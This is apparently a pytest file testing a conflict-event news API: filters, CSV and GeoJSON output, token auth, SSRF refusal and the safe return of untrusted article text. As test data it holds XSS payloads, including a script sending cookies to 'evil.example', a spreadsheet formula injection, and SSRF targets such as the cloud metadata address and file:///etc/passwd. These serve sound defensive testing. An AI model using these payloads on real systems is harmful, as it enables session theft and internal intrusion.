"""The HTTP API (frontlines.web) over a small store of hand-written events: every filter, paging,
the GeoJSON / CSV shapes, 404s and 4xx on bad parameters, auth on writes, SSRF refusals, and
untrusted article text returned as data. No network: URL checks use an injected resolver."""
from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest

pytest.importorskip("fastapi")
from fastapi.testclient import TestClient  # noqa: E402

from frontlines import api  # noqa: E402
from frontlines.records import Article, CodedDocument, Event, Evidence  # noqa: E402
from frontlines.store import Store  # noqa: E402
from frontlines.web import create_app  # noqa: E402
from frontlines.web.safety import RefusedURL, check_url, csv_cell  # noqa: E402

TOKEN = "s3cret-token"
AUTH = {"Authorization": f"Bearer {TOKEN}"}

# Written for these tests. Offsets are found in the text, so the evidence spans are exact.
ALEPPO = ("Government aircraft dropped barrel bombs on the Masaken Hanano district of Aleppo on "
          "Sunday, killing 12 people. Rebels of the Free Syrian Army clashed with Islamic State "
          "fighters near Azaz on Monday; four fighters died.")
PAYLOAD = ('Protesters gathered in Homs <script>alert("x")</script> on Friday. '
           '<img src=x onerror="alert(1)"> Police dispersed them with tear gas.')


def _evidence(text: str, sentence: str) -> Evidence:
    start = text.index(sentence)
    return Evidence(start=start, end=start + len(sentence), text=sentence)


def _event(date: str, sub: str, etype: str, actor1: str, actor2: str | None, location: str,
           lat: float, lon: float, fatalities: int, notes: str, evidence: Evidence,
           admin1: str = "Aleppo", country: str = "Syria") -> Event:
    return Event(event_date=date, time_precision=1, event_type=etype, sub_event_type=sub,
                 actor1=actor1, actor2=actor2, country=country, admin1=admin1, location=location,
                 latitude=lat, longitude=lon, geo_precision=1, fatalities=fatalities, notes=notes,
                 evidence=[evidence])


def _fill(store: Store) -> dict[str, list[str]]:
    s1 = "Government aircraft dropped barrel bombs on the Masaken Hanano district of Aleppo on Sunday, killing 12 people."
    s2 = "Rebels of the Free Syrian Army clashed with Islamic State fighters near Azaz on Monday; four fighters died."
    aleppo = [
        _event("2014-01-05", "Air/drone strike", "Explosions/Remote violence",
               "Military Forces of Syria (2000-2024)", "Civilians (Syria)", "Aleppo", 36.2, 37.16, 12,
               "=HYPERLINK barrel bombs on Masaken Hanano", _evidence(ALEPPO, s1)),
        _event("2014-01-06", "Armed clash", "Battles", "Free Syrian Army", "Islamic State (Syria)",
               "Azaz", 36.59, 37.04, 4, "FSA and IS clashed near Azaz", _evidence(ALEPPO, s2)),
    ]
    s3 = 'Protesters gathered in Homs <script>alert("x")</script> on Friday.'
    homs = [_event("2014-01-10", "Peaceful protest", "Protests", "Protesters (Syria)", None, "Homs",
                   34.73, 36.71, 0, 'crowd in Homs <script>alert("x")</script>', _evidence(PAYLOAD, s3),
                   admin1="Homs")]
    ids = {}
    for key, text, title, events in (("aleppo", ALEPPO, "Barrel bombs on Aleppo", aleppo),
                                      ("homs", PAYLOAD, "Homs <b onmouseover=alert(2)>protest</b>", homs)):
        article = Article(text=text, title=title, source="Test Wire", url=f"https://news.example/{key}")
        saved = store.save_article_coded(article, key, CodedDocument(id=key, published="2014-01-11",
                                                                     events=events))
        ids[key] = saved.event_ids
        ids[key + "_article"] = [str(saved.article_id)]
    return ids


class FakeCoder:
    """Stands in for the NLP coder where a test is about the API, not about coding: no events."""

    def code(self, article: Article, doc_id: str | None = None) -> CodedDocument:
        return CodedDocument(id=doc_id or "doc", published=None)


def _refuse_all(host: str) -> list[str]:
    raise AssertionError(f"the resolver must not be asked about {host}")


def public_resolver(host: str) -> list[str]:
    return {"news.example": ["93.184.216.34"], "inward.example": ["10.1.2.3"],
            "mixed.example": ["93.184.216.34", "127.0.0.1"]}.get(host, [])


@pytest.fixture
def store(store_url):
    with Store.open(store_url) as opened:
        yield opened


@pytest.fixture
def ids(store):
    return _fill(store)


@pytest.fixture
def client(store, ids):
    app = create_app(store, coder_factory=FakeCoder, token=TOKEN, resolver=public_resolver)
    with TestClient(app) as c:
        yield c


def _page(client, url: str, **params) -> dict:
    response = client.get(url, params=params)
    assert response.status_code == 200, response.text
    return response.json()


# ---------------------------------------------------------------- events


def test_events_newest_first_with_every_field(client, ids):
    page = _page(client, "/api/events")
    assert page["total"] == 3 and page["limit"] == 100 and page["offset"] == 0
    assert [e["event_date"] for e in page["items"]] == ["2014-01-10", "2014-01-06", "2014-01-05"]
    first = page["items"][0]
    assert first["id"] == ids["homs"][0] and first["status"] == "active" and first["sources"] == 1
    assert first["location"] == "Homs" and first["latitude"] == 34.73


@pytest.mark.parametrize("params, locations", [
    ({"date_from": "2014-01-06"}, ["Homs", "Azaz"]),
    ({"date_to": "2014-01-05"}, ["Aleppo"]),
    ({"date_from": "2014-01-06", "date_to": "2014-01-06"}, ["Azaz"]),
    ({"bbox": "36.9,36.0,37.5,37.0"}, ["Azaz", "Aleppo"]),
    ({"bbox": "36.0,34.0,37.0,35.0"}, ["Homs"]),
    ({"country": "Syria"}, ["Homs", "Azaz", "Aleppo"]),
    ({"country": "Iraq"}, []),
    ({"admin1": "Homs"}, ["Homs"]),
    ({"actor": "Islamic State (Syria)"}, ["Azaz"]),  # as actor2
    ({"actor": "Free Syrian Army"}, ["Azaz"]),  # as actor1
    ({"event_type": "Battles"}, ["Azaz"]),
    ({"sub_event_type": "Air/drone strike"}, ["Aleppo"]),
    ({"q": "masaken"}, ["Aleppo"]),  # case-insensitive text in notes
    ({"q": "100%"}, []),  # LIKE wildcards are taken literally
    ({"event_type": "Battles", "admin1": "Homs"}, []),
])
def test_event_filters(client, params, locations):
    page = _page(client, "/api/events", **params)
    assert [e["location"] for e in page["items"]] == locations
    assert page["total"] == len(locations)


def test_event_paging(client):
    first = _page(client, "/api/events", limit=2)
    second = _page(client, "/api/events", limit=2, offset=2)
    assert first["total"] == second["total"] == 3
    assert len(first["items"]) == 2 and len(second["items"]) == 1
    assert {e["id"] for e in first["items"]}.isdisjoint(e["id"] for e in second["items"])


def test_events_geojson(client):
    response = client.get("/api/events", params={"format": "geojson", "event_type": "Battles"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/geo+json")
    body = response.json()
    assert body["type"] == "FeatureCollection" and body["total"] == 1
    feature = body["features"][0]
    assert feature["geometry"] == {"type": "Point", "coordinates": [37.04, 36.59]}  # lon, lat
    assert feature["properties"]["actor1"] == "Free Syrian Army"
    assert "latitude" not in feature["properties"]


def test_events_csv_is_data_and_defused(client):
    response = client.get("/api/events", params={"format": "csv"})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert response.headers["x-total-count"] == "3"
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [r["location"] for r in rows] == ["Homs", "Azaz", "Aleppo"]
    assert rows[2]["notes"].startswith("'=HYPERLINK")  # no formula runs when opened in a spreadsheet
    assert rows[0]["notes"] == 'crowd in Homs <script>alert("x")</script>'


def test_event_detail_with_evidence_and_reports(client, ids):
    event = _page(client, f"/api/events/{ids['aleppo'][1]}")
    assert event["sub_event_type"] == "Armed clash"
    [span] = event["evidence"]
    assert ALEPPO[span["start"]:span["end"]] == span["text"]
    assert span["article_id"] == int(ids["aleppo_article"][0])
    assert span["url"] == "https://news.example/aleppo"
    assert event["reports"] == [{"article_id": span["article_id"], "url": "https://news.example/aleppo",
                                 "title": "Barrel bombs on Aleppo", "source": "Test Wire",
                                 "published": None}]
    assert event["created_at"] and event["updated_at"]


def test_not_found(client):
    assert client.get("/api/events/fl-nope").status_code == 404
    assert client.get("/api/articles/999").status_code == 404


@pytest.mark.parametrize("url", [
    "/api/events?date_from=2014-13-01",
    "/api/events?date_from=yesterday",
    "/api/events?date_to=0",  # not read as a unix time
    "/api/timeline?date_from=2014-1-5",
    "/api/events?date_from=2014-02-01&date_to=2014-01-01",
    "/api/events?bbox=1,2,3",
    "/api/events?bbox=a,b,c,d",
    "/api/events?bbox=10,0,5,1",
    "/api/events?bbox=0,0,200,1",
    "/api/events?bbox=nan,0,1,1",
    "/api/events?limit=0",
    "/api/events?limit=1001",
    "/api/events?limit=ten",
    "/api/events?offset=-1",
    "/api/events?format=xml",
    "/api/timeline?interval=month",
    "/api/articles/0",
    "/api/articles/abc",
    "/api/articles/99999999999999999999999",
    "/api/relations?as_of=2014-02-30",
])
def test_bad_parameters_are_4xx_with_a_message(client, url):
    response = client.get(url)
    assert 400 <= response.status_code < 500, (url, response.status_code)
    assert response.json()["detail"]


# ---------------------------------------------------------------- timeline, actors


def test_timeline_by_day_and_week(client):
    days = _page(client, "/api/timeline", interval="day")["buckets"]
    assert days == [
        {"period": "2014-01-05", "event_type": "Explosions/Remote violence", "events": 1, "fatalities": 12},
        {"period": "2014-01-06", "event_type": "Battles", "events": 1, "fatalities": 4},
        {"period": "2014-01-10", "event_type": "Protests", "events": 1, "fatalities": 0},
    ]
    weeks = _page(client, "/api/timeline", interval="week")["buckets"]
    # 2014-01-05 is a Sunday (week of Monday 2013-12-30); the 6th and 10th share the next week.
    assert [(b["period"], b["event_type"]) for b in weeks] == [
        ("2013-12-30", "Explosions/Remote violence"), ("2014-01-06", "Battles"), ("2014-01-06", "Protests")]
    filtered = _page(client, "/api/timeline", interval="week", country="Syria", admin1="Homs")
    assert filtered["buckets"] == [{"period": "2014-01-06", "event_type": "Protests", "events": 1,
                                    "fatalities": 0}]


def test_actors_with_event_counts(client):
    page = _page(client, "/api/actors")
    counts = {a["name"]: a["events"] for a in page["items"]}
    assert counts["Free Syrian Army"] == 1 and counts["Islamic State (Syria)"] == 1
    assert page["total"] == len(counts) == 5
    found = _page(client, "/api/actors", q="islamic")
    assert [a["name"] for a in found["items"]] == ["Islamic State (Syria)"]
    last = _page(client, "/api/actors", limit=2, offset=4)
    assert last["total"] == 5 and [a["name"] for a in last["items"]] == [sorted(counts)[4]]


# ---------------------------------------------------------------- articles


def test_article_search_full_text(client, ids):
    hits = _page(client, "/api/articles", q="barrel bombs")
    assert hits["total"] == 1 and hits["items"][0]["id"] == int(ids["aleppo_article"][0])
    assert "[[barrel]] [[bombs]]" in hits["items"][0]["snippet"]
    assert _page(client, "/api/articles", q="Aleppo Homs")["total"] == 0  # every word must occur
    assert _page(client, "/api/articles", q='"unbalanced AND (')["total"] == 0  # FTS syntax is text
    assert _page(client, "/api/articles", q="***")["total"] == 0
    everything = _page(client, "/api/articles")
    assert everything["total"] == 2 and everything["items"][0]["title"].startswith("Homs")


def test_article_detail_with_its_events(client, ids):
    article_id = int(ids["aleppo_article"][0])
    article = _page(client, f"/api/articles/{article_id}")
    assert article["text"] == ALEPPO and article["source"] == "Test Wire"
    assert [e["event_id"] for e in article["events"]] == ids["aleppo"]
    for e in article["events"]:
        assert ALEPPO[e["start"]:e["end"]] == e["text"]


def test_untrusted_text_is_returned_as_data(client, ids):
    response = client.get(f"/api/articles/{ids['homs_article'][0]}")
    assert response.headers["content-type"] == "application/json"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert "default-src 'none'" in response.headers["content-security-policy"]
    body = response.json()
    assert body["text"] == PAYLOAD and '<script>alert("x")</script>' in body["text"]
    assert body["title"] == "Homs <b onmouseover=alert(2)>protest</b>"
    hit = _page(client, "/api/articles", q="onerror")["items"][0]
    assert hit["id"] == int(ids["homs_article"][0])


def test_fts_index_follows_deletes(store, ids, client):
    from sqlalchemy import delete

    from frontlines.store.models import ArticleRow

    with store.engine.begin() as conn:
        conn.execute(delete(ArticleRow).where(ArticleRow.id == int(ids["aleppo_article"][0])))
    assert _page(client, "/api/articles", q="barrel")["total"] == 0


# ---------------------------------------------------------------- writes


def test_writes_need_the_token(store, ids):
    with TestClient(create_app(store, coder_factory=FakeCoder, token=TOKEN)) as c:
        body = {"text": "Rebels shelled the airport of Aleppo on Monday, killing three soldiers."}
        assert c.post("/api/ingest", json=body).status_code == 401
        assert c.post("/api/ingest", json=body).headers["www-authenticate"] == "Bearer"
        assert c.post("/api/ingest", json=body, headers={"Authorization": "Bearer nope"}).status_code == 403
        assert c.post("/api/ingest", json=body, headers={"Authorization": f"Basic {TOKEN}"}).status_code == 401
        fix = {"action": "false", "author": "a", "reason": "r"}
        assert c.post(f"/api/events/{ids['homs'][0]}/corrections", json=fix).status_code == 401
    with TestClient(create_app(store, coder_factory=FakeCoder)) as c:  # no token: read-only
        assert c.post("/api/ingest", json=body, headers=AUTH).status_code == 403
        assert c.get("/api/events").status_code == 200


def test_ingest_text_stores_it_once(client, store):
    body = {"text": "A quiet day in the capital, the ministry said.", "title": "Quiet", "source": "Wire",
            "published": "2014-02-01"}
    first = client.post("/api/ingest", json=body, headers=AUTH)
    assert first.status_code == 201, first.text
    article_id = first.json()["article_id"]
    assert first.json()["ingested"] == 1
    again = client.post("/api/ingest", json=body, headers=AUTH).json()
    assert again["duplicates"] == 1 and again["article_id"] == article_id
    stored = store.get_article(article_id)
    assert stored is not None and stored.article.title == "Quiet"
    assert str(stored.article.published) == "2014-02-01"


@pytest.mark.parametrize("body", [
    {}, {"text": "x", "url": "https://news.example/a"}, {"text": ""}, {"text": "\ud800 lone"},
    {"url": "ftp://news.example/a"},
])
def test_ingest_bad_bodies(client, body):
    # json.dumps escapes the lone surrogate as \\ud800, which is valid JSON text
    response = client.post("/api/ingest", content=json.dumps(body),
                           headers={**AUTH, "Content-Type": "application/json"})
    assert 400 <= response.status_code < 500, (body, response.text)


@pytest.mark.parametrize("url, why", [
    ("http://127.0.0.1:8000/api/events", "loopback"),
    ("http://unknown.example/", "no address"),
    ("http://10.0.0.5/admin", "private"),
    ("http://169.254.169.254/latest/meta-data/", "link-local"),
    ("http://[::1]/", "loopback"),
    ("http://[::ffff:127.0.0.1]/", "loopback"),
    ("http://0.0.0.0/", "unspecified"),
    ("http://inward.example/", "private"),
    ("http://mixed.example/", "loopback"),  # one inward address is enough to refuse
])
def test_ssrf_refused(client, url, why):
    response = client.post("/api/ingest", json={"url": url}, headers=AUTH)
    assert response.status_code == 400, response.text
    if why:
        assert why in response.json()["detail"]


def test_check_url_allows_public_and_checks_literals_without_resolving():
    check_url("https://news.example/story", public_resolver)
    with pytest.raises(RefusedURL, match="loopback"):
        check_url("http://127.0.0.1/", _refuse_all)
    with pytest.raises(RefusedURL, match="scheme"):
        check_url("file:///etc/passwd", _refuse_all)


def test_redirect_inward_is_refused(store):
    """A public page that redirects to a private address: the fetcher checks every hop."""
    import httpx

    from frontlines.ingest import FetchError, IngestLimits
    from frontlines.web.safety import GuardedFetcher

    def handler(request: httpx.Request) -> httpx.Response:
        if request.url.host == "news.example":
            return httpx.Response(302, headers={"Location": "http://10.9.9.9/secret"})
        return httpx.Response(200, text="secret")

    fetcher = GuardedFetcher(IngestLimits(), public_resolver, transport=httpx.MockTransport(handler))
    with pytest.raises(FetchError, match="private"):
        fetcher.fetch("https://news.example/story")
    fetcher.close()


def test_private_urls_allowed_when_the_operator_says_so(store, monkeypatch):
    """With allow_private_urls the address check is skipped (the fetch itself is stubbed)."""
    seen = []

    def fake_ingest(inputs, *, store, coder, fetcher=None, on_document=None):
        seen.append((list(inputs), fetcher))
        return api.IngestSummary(ingested=1, events=0)

    monkeypatch.setattr(api, "ingest", fake_ingest)
    app = create_app(store, coder_factory=FakeCoder, token=TOKEN, allow_private_urls=True,
                     resolver=_refuse_all)
    with TestClient(app) as c:
        response = c.post("/api/ingest", json={"url": "http://127.0.0.1:9/page"}, headers=AUTH)
    assert response.status_code == 201 and seen == [(["http://127.0.0.1:9/page"], None)]


def test_csv_cell():
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("-2") == "'-2" and csv_cell("plain") == "plain"
    assert csv_cell(-2) == -2 and csv_cell(None) is None


# ---------------------------------------------------------------- relations, control, corrections


def test_relations_as_of(client):
    page = _page(client, "/api/relations", as_of="2014-01-07")
    pairs = {frozenset((r["actor_a"], r["actor_b"])): r["relation"] for r in page["items"]}
    assert pairs[frozenset(("Free Syrian Army", "Islamic State (Syria)"))] == "hostile"
    assert page["as_of"] == "2014-01-07"
    assert len(_page(client, "/api/relations", as_of="2014-01-07", limit=1)["items"]) == 1


def test_control_endpoint(client):
    page = _page(client, "/api/control")
    assert page["total"] == len(page["items"]) and page["as_of"] is None


def test_correction_sets_a_field(client, ids):
    event_id = ids["aleppo"][0]
    fix = {"action": "set", "field": "fatalities", "value": 14, "author": "analyst",
           "reason": "hospital count"}
    response = client.post(f"/api/events/{event_id}/corrections", json=fix, headers=AUTH)
    assert response.status_code == 201, response.text
    assert response.json()["field"] == "fatalities" and response.json()["author"] == "analyst"
    assert _page(client, f"/api/events/{event_id}")["fatalities"] == 14
    bad = {**fix, "field": "no_such_field"}
    assert client.post(f"/api/events/{event_id}/corrections", json=bad, headers=AUTH).status_code == 422


def test_correction_of_unknown_event_is_404(client):
    fix = {"action": "false", "author": "analyst", "reason": "never happened"}
    assert client.post("/api/events/fl-nope/corrections", json=fix, headers=AUTH).status_code == 404


def test_openapi_and_docs(client):
    spec = _page(client, "/openapi.json")
    for path in ("/api/events", "/api/events/{event_id}", "/api/timeline", "/api/articles",
                 "/api/articles/{article_id}", "/api/actors", "/api/relations", "/api/control",
                 "/api/ingest", "/api/events/{event_id}/corrections"):
        assert path in spec["paths"], path
    assert client.get("/docs").status_code == 200


def test_event_count_stops_at_the_cap(client, monkeypatch):
    from frontlines.web import queries

    monkeypatch.setattr(queries, "COUNT_CAP", 1)
    page = _page(client, "/api/events", limit=1)
    assert page["total"] == 1 and page["total_exact"] is False and len(page["items"]) == 1
    assert _page(client, "/api/events", limit=3)["total_exact"] is True  # a page is always counted


def test_timeline_day_counts_follow_every_write(client, store, ids):
    """The per-day counts (kept by triggers) agree with the events after updates and deletes,
    and a filter they do not hold (admin1) is answered from the events themselves."""
    from sqlalchemy import delete, update

    from frontlines.store.models import EventRow

    with store.engine.begin() as conn:
        conn.execute(update(EventRow).where(EventRow.id == ids["aleppo"][0])
                     .values(fatalities=20, event_date=date(2014, 1, 6)))
        conn.execute(update(EventRow).where(EventRow.id == ids["homs"][0]).values(status="false"))
        conn.execute(delete(EventRow).where(EventRow.id == ids["aleppo"][1]))
    counted = _page(client, "/api/timeline", interval="week")["buckets"]
    assert counted == [{"period": "2014-01-06", "event_type": "Explosions/Remote violence",
                        "events": 1, "fatalities": 20}]
    assert _page(client, "/api/timeline", interval="week", admin1="Aleppo")["buckets"] == counted
    with_false = _page(client, "/api/timeline", include_false=True, country="Syria")["buckets"]
    assert [(b["period"], b["event_type"]) for b in with_false] == [
        ("2014-01-06", "Explosions/Remote violence"), ("2014-01-10", "Protests")]


def test_actor_on_both_sides_is_listed_once(client, store):
    both = _event("2014-01-07", "Armed clash", "Battles", "Free Syrian Army", "Free Syrian Army", "Azaz",
                  36.59, 37.04, 1, "infighting", Evidence(start=0, end=10, text="Infighting"))
    store.save_article_coded(Article(text="Infighting among FSA factions near Azaz."), "both",
                             CodedDocument(id="both", published=None, events=[both]))
    page = _page(client, "/api/events", actor="Free Syrian Army")
    assert [e["event_date"] for e in page["items"]] == ["2014-01-07", "2014-01-06"]
    assert page["total"] == 2 and page["total_exact"] is True
    assert [e["event_date"] for e in _page(client, "/api/events", actor="Free Syrian Army", limit=1,
                                            offset=1)["items"]] == ["2014-01-06"]


def test_ingest_hostile_text_with_the_real_coder(store, coder):
    """POST /api/ingest with the shipped coder: the article and its events come back as JSON
    data, the payloads byte for byte, with headers that stop a browser from running them."""
    text = ("Government aircraft dropped barrel bombs on the town of Azaz in Aleppo province on "
            "Sunday, killing 12 people, <script>document.location='http://evil.example/'+document.cookie"
            "</script> a monitoring group said. <img src=x onerror=alert(1)> Rebels shelled an army "
            "checkpoint near Idlib on Monday.")
    app = create_app(store, coder_factory=lambda: coder, token=TOKEN, resolver=_refuse_all)
    with TestClient(app) as c:
        made = c.post("/api/ingest", json={"text": text, "published": "2014-01-07"}, headers=AUTH)
        assert made.status_code == 201, made.text
        result = made.json()
        assert result["ingested"] == 1 and result["events"] == len(result["event_ids"]) >= 1
        article = c.get(f"/api/articles/{result['article_id']}")
        assert article.headers["content-type"] == "application/json"
        assert article.headers["x-content-type-options"] == "nosniff"
        assert article.json()["text"] == text
        assert {e["event_id"] for e in article.json()["events"]} == set(result["event_ids"])
        event = c.get(f"/api/events/{result['event_ids'][0]}").json()
        for span in event["evidence"]:
            assert text[span["start"]:span["end"]] == span["text"]
        assert c.get("/api/articles", params={"q": "onerror"}).json()["items"][0]["id"] == result["article_id"]


def test_serve_command_runs_the_app_with_the_token(tmp_path, monkeypatch):
    import uvicorn
    from typer.testing import CliRunner

    from frontlines.cli import app as cli_app

    served = {}

    def fake_run(app, host, port, **_kwargs):
        served.update(host=host, port=port, app=app)
        with TestClient(app) as c:
            served["events"] = c.get("/api/events").status_code
            served["write"] = c.post("/api/ingest", json={"text": "x"}, headers=AUTH).status_code

    monkeypatch.setattr(uvicorn, "run", fake_run)
    monkeypatch.setenv("FRONTLINES_TOKEN", "other-token")
    result = CliRunner().invoke(cli_app, ["serve", "--db", f"sqlite:///{tmp_path / 's.db'}", "--port", "8123"])
    assert result.exit_code == 0, result.output
    assert served["host"] == "127.0.0.1" and served["port"] == 8123
    assert served["events"] == 200 and served["write"] == 403  # AUTH's token is not the server's


def test_bench_api_smoke():
    import subprocess
    import sys
    from pathlib import Path

    bench = Path(__file__).resolve().parents[1] / "bench" / "bench_api.py"
    proc = subprocess.run([sys.executable, str(bench), "--events", "400", "--requests", "2", "--json"],
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    out = json.loads(proc.stdout)
    assert out["events"] == 400 and "timeline (week, everything)" in out["endpoints"]
    assert all(r["p95_ms"] >= r["p50_ms"] > 0 for r in out["endpoints"].values())


def test_schema_head_keeps_the_serving_triggers(store):
    """A later migration that rebuilds events or articles in Alembic batch mode drops their
    triggers with the old table; it must create them again (migration 0003's statements)."""
    if store.engine.dialect.name != "sqlite":
        pytest.skip("the FTS5 and per-day count triggers are SQLite's (PostgreSQL aggregates)")
    with store.engine.connect() as conn:
        triggers = {name for (name,) in conn.exec_driver_sql(
            "SELECT name FROM sqlite_master WHERE type = 'trigger'")}
    expected = {f"{table}_{when}" for table in ("articles_fts", "event_day_counts", "event_day_type_counts")
                for when in ("insert", "delete", "update")}
    assert expected <= triggers


def test_postgres_search_uses_its_gin_index(store, ids):
    """The search spells the indexed expression of migration 0004 exactly, so PostgreSQL can
    answer it from the GIN index (sequential scans priced out, as on a large archive)."""
    if store.engine.dialect.name != "postgresql":
        pytest.skip("PostgreSQL's full-text search (SQLite searches its FTS5 table)")
    from frontlines.store.models import PG_SEARCH_CONFIG, PG_SEARCH_INDEX, PG_SEARCH_VECTOR

    with store.engine.connect() as conn:
        conn.exec_driver_sql("SET enable_seqscan = off")
        plan = "\n".join(r[0] for r in conn.exec_driver_sql(
            f"EXPLAIN SELECT id FROM articles WHERE {PG_SEARCH_VECTOR} @@ "
            f"plainto_tsquery('{PG_SEARCH_CONFIG}', 'barrel bombs')"))
    assert PG_SEARCH_INDEX in plan


def test_article_search_count_stops_at_the_cap(client, monkeypatch):
    from frontlines.web import queries

    monkeypatch.setattr(queries, "COUNT_CAP", 1)
    found = _page(client, "/api/articles", q="on", limit=1)  # both test articles have "on"
    assert found["total"] == 1 and found["total_exact"] is False and len(found["items"]) == 1
    assert _page(client, "/api/articles", q="on", limit=2)["total_exact"] is True
